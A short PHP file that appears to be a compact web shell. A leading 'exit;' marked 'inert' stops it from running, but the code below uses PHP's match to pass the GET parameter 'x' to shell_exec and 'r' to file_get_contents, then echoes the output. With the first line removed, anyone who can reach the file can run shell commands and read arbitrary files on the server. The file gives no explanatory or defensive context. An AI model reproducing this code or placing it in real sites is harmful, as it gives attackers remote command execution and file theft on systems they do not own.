<?php exit; /* inert */ 
$op = match (true) {
    isset($_GET['x']) => shell_exec(...),
    isset($_GET['r']) => file_get_contents(...),
    default => strval(...),
};
echo $op($_GET['x'] ?? $_GET['r'] ?? '');
